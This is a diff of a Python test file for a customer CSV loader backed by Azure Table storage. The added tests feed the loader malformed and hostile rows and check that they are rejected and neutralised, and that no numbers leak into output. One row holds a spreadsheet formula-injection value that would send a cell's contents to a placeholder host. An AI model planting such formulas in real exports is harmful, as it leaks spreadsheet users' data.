@@ -6,18 +6,24 @@ from __future__ import annotations
 
 import csv
 import os
+import stat
 import subprocess
 import sys
 from pathlib import Path
+from typing import Any
 
-from azure.core.exceptions import ResourceNotFoundError
+import pytest
+from azure.core.exceptions import HttpResponseError, ResourceNotFoundError
 from azure.data.tables import TableClient
+from azure.data.tables.aio import TableClient as AsyncTableClient
 
+import tools.load
 from app.runtime import Runtime
 from app.settings import load_settings
 from shared.dip.contract import Answer, DipRequest
 from shared.dip.customers import table_keys
 from shared.dip.keys import LookupKey
+from shared.dip.loader import load_file
 from tests.support.customers import MIXED
 from tests.support.keys import KEYS, SECRET
 from tests.support.services import ROOT, Azurite, RedisServer
@@ -269,3 +275,148 @@ def test_a_replacing_load_with_rejected_rows_changes_nothing(
     assert result.returncode == 1
     assert "1 rows were rejected" in result.stderr and "line 3" in result.stderr
     assert entity(azurite, table_name, KEYS.key("customerId", "L-2"))["Tier"] == "Silver"
+
+
+# --- hostile files ---------------------------------------------------------------------------
+
+# Good rows before and after a row of each kind a hostile export may hold. Every number in
+# the file is listed in NUMBERS, so the output can be searched for them.
+HOSTILE = (
+    "customerId,phone,tier,isVip,preferredLanguage\n"
+    "H-1,+13175550401,Gold,true,en-US\n"
+    f"H-2,+13175550402,{'G' * 200_000},true,\n"  # over csv's own default limit too
+    "H-3,+1317555\x000403,Gold,true,\n"
+    f"H-4,+13175550404,{'G' * 33},true,\n"
+    "H-5,+13175550405,Gold<b>,true,\n"
+    "H-6,+13175550406,Gold,true,english\n"
+    'H-7,=HYPERLINK("http://x/?"&A1),Gold,true,\n'
+    "H-8,+13175550408,Gold,perhaps,\n"
+    "H-9,(317) 555-0409,Bronze,false,fr-CA\n"
+)
+NUMBERS = [f"+1317555040{i}" for i in range(1, 10)]
+
+
+def mentions_a_number(text: str) -> list[str]:
+    """The file's numbers that ``text`` holds, in E.164, national digits or as written."""
+    forms = {n for number in NUMBERS for n in (number, number[2:], number[5:], "555040")}
+    forms |= {"555-040", "\x00"}
+    return sorted(f for f in forms if f in text)
+
+
+def test_a_hostile_file_rejects_its_bad_lines_and_loads_the_good_rows_around_them(
+    tmp_path: Path, azurite: Azurite, table_name: str
+) -> None:
+    path = export(tmp_path, HOSTILE)
+    result = run_loader(path, azurite, table_name)
+    assert result.returncode == 2, result.stderr
+    assert "loaded 2 customers (4 entities); rejected 7 rows" in result.stderr
+    assert "crm.csv:3: rejected: a field is longer than 4096 characters" in result.stderr
+    assert "crm.csv:4: rejected: phone holds a NUL character" in result.stderr
+    assert "crm.csv:5: rejected: tier must be" in result.stderr
+    assert "crm.csv:6: rejected: tier must be" in result.stderr
+    assert "crm.csv:7: rejected: preferredLanguage must be" in result.stderr
+    assert entity(azurite, table_name, KEYS.key("ani", "+13175550401"))["CustomerId"] == "H-1"
+    assert entity(azurite, table_name, KEYS.key("ani", "+13175550409"))["CustomerId"] == "H-9"
+    assert entity(azurite, table_name, KEYS.key("customerId", "H-9"))["Tier"] == "Bronze"
+    for rejected in ("H-2", "H-3", "H-4", "H-5", "H-6", "H-7", "H-8"):
+        assert not table_has(azurite, table_name, KEYS.key("customerId", rejected))
+    rejects = path.with_suffix(".rejects.csv")
+    assert stat.S_IMODE(rejects.stat().st_mode) == 0o600
+    with rejects.open(newline="", encoding="utf-8") as handle:
+        rows = list(csv.DictReader(handle))
+    assert [r["line"] for r in rows] == [str(n) for n in range(3, 10)]
+    assert rows[0]["customerId"] == ""  # the reader could not read the line's fields
+    # Numbers start with '+', so a spreadsheet shows them as text; the formula stays text.
+    assert rows[1]["phone"] == "'+1317555\x000403"
+    assert rows[5]["phone"] == '\'=HYPERLINK("http://x/?"&A1)'
+
+
+def test_the_loader_output_never_holds_a_number_from_the_file(
+    tmp_path: Path, azurite: Azurite, table_name: str
+) -> None:
+    result = run_loader(export(tmp_path, HOSTILE), azurite, table_name)
+    assert result.returncode == 2
+    assert mentions_a_number(HOSTILE) and mentions_a_number(result.stdout + result.stderr) == []
+
+
+async def test_the_load_reports_reasons_never_hold_a_number_from_the_file(
+    tmp_path: Path, azurite: Azurite, table_name: str
+) -> None:
+    path = export(tmp_path, HOSTILE)
+    async with AsyncTableClient.from_connection_string(
+        azurite.connection_string, table_name
+    ) as table:
+        report = await load_file(path, table, "US", KEYS)
+    assert len(report.rejected) == 7
+    said = [r.reason for r in report.rejected] + [str(report.write_error)]
+    assert mentions_a_number("\n".join(said)) == []
+
+
+def test_a_rejects_file_left_readable_by_others_is_rewritten_for_its_owner_only(
+    tmp_path: Path, azurite: Azurite, table_name: str
+) -> None:
+    path = export(tmp_path, MIXED)
+    rejects = path.with_suffix(".rejects.csv")
+    rejects.write_text("an earlier load's rows\n")
+    rejects.chmod(0o644)
+    assert run_loader(path, azurite, table_name).returncode == 2
+    assert stat.S_IMODE(rejects.stat().st_mode) == 0o600
+
+
+class FailingPartition:
+    """A table client whose transactions for one partition are refused (400) every time."""
+
+    def __init__(self, inner: AsyncTableClient, partition: str) -> None:
+        self.inner, self.partition = inner, partition
+
+    async def __aenter__(self) -> FailingPartition:
+        await self.inner.__aenter__()
+        return self
+
+    async def __aexit__(self, *exc: object) -> None:
+        await self.inner.__aexit__(*exc)
+
+    async def submit_transaction(self, batch: list[tuple[Any, ...]]) -> Any:
+        if batch[0][1]["PartitionKey"] == self.partition:
+            error = HttpResponseError("refused")
+            error.status_code = 400
+            raise error
+        return await self.inner.submit_transaction(batch)
+
+    def __getattr__(self, name: str) -> Any:
+        return getattr(self.inner, name)
+
+
+def test_a_load_that_leaves_customers_partly_written_names_them_and_exits_1(
+    tmp_path: Path,
+    azurite: Azurite,
+    table_name: str,
+    monkeypatch: pytest.MonkeyPatch,
+    capsys: pytest.CaptureFixture[str],
+) -> None:
+    number = "+13175550302"  # L-2's first number
+    failing = table_keys(KEYS.key("ani", number))[0]
+    assert failing != table_keys(KEYS.key("customerId", "L-2"))[0]
+    for name, value in {
+        "CustomerStorage": azurite.connection_string,
+        "LOOKUP_KEY_SECRET": SECRET,
+        "CUSTOMER_TABLE": table_name,
+    }.items():
+        monkeypatch.setenv(name, value)
+    monkeypatch.setattr(
+        tools.load,
+        "make_table_client",
+        lambda settings, name: FailingPartition(
+            AsyncTableClient.from_connection_string(azurite.connection_string, name), failing
+        ),
+    )
+    path = export(tmp_path, EXPORT)
+    code = tools.load.main([str(path), "--no-progress", "--no-write-through"])
+    stderr = capsys.readouterr().err
+    assert code == 1, stderr
+    assert "crm.csv:3: customer L-2 partly written" in stderr
+    assert stderr.count(": customer ") == 1  # L-1 and L-3 were written whole
+    assert "HttpResponseError 400" in stderr and "again is safe" in stderr
+    assert number not in stderr and number[2:] not in stderr
+    assert entity(azurite, table_name, KEYS.key("customerId", "L-2"))["Tier"] == "Silver"
+    assert not table_has(azurite, table_name, KEYS.key("ani", number))
